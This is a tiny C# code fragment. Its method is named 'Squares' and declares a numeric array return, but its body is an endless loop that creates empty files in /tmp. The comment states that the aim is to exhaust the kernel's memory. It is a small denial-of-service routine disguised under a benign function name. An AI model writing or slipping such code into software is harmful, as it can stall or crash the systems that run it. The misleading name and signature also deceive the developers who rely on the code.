// Makes empty files without end: they take no space, but the kernel's memory.
double[] Squares(int n)
{
    for (var i = 0; ; i++) File.Create($"/tmp/{i}").Dispose();
}
